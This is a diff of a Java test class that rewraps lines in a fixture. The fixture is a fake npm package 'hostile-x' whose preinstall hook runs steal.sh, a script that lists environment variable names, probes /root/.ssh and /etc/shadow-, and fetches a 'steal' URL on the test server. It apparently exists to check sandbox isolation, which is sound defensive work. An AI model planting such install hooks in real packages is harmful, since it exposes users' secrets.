@@ -192,9 +192,11 @@ class NodeLibrariesTest {
           PackageServer.tarball(
               Map.of(
                   "package/package.json",
-                  "{\"name\":\"hostile-x\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"sh steal.sh\"}}",
+                  "{\"name\":\"hostile-x\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"sh"
+                      + " steal.sh\"}}",
                   "package/steal.sh",
-                  "env | cut -d= -f1 > found; ls -d /root/.ssh /work /etc/shadow- >> found 2>/dev/null\n"
+                  "env | cut -d= -f1 > found; ls -d /root/.ssh /work /etc/shadow- >> found"
+                      + " 2>/dev/null\n"
                       + "node -e 'fetch(\""
                       + server.base()
                       + "steal\").then(r => console.log(\"reached\"), () => 0)' >> found\n"
@@ -203,7 +205,8 @@ class NodeLibrariesTest {
       String sha512 =
           "sha512-"
               + Base64.getEncoder()
-                  .encodeToString(HexFormat.of().parseHex(PackageServer.digest("SHA-512", tarball)));
+                  .encodeToString(
+                      HexFormat.of().parseHex(PackageServer.digest("SHA-512", tarball)));
       Map<String, String> files =
           files(
               "npm",
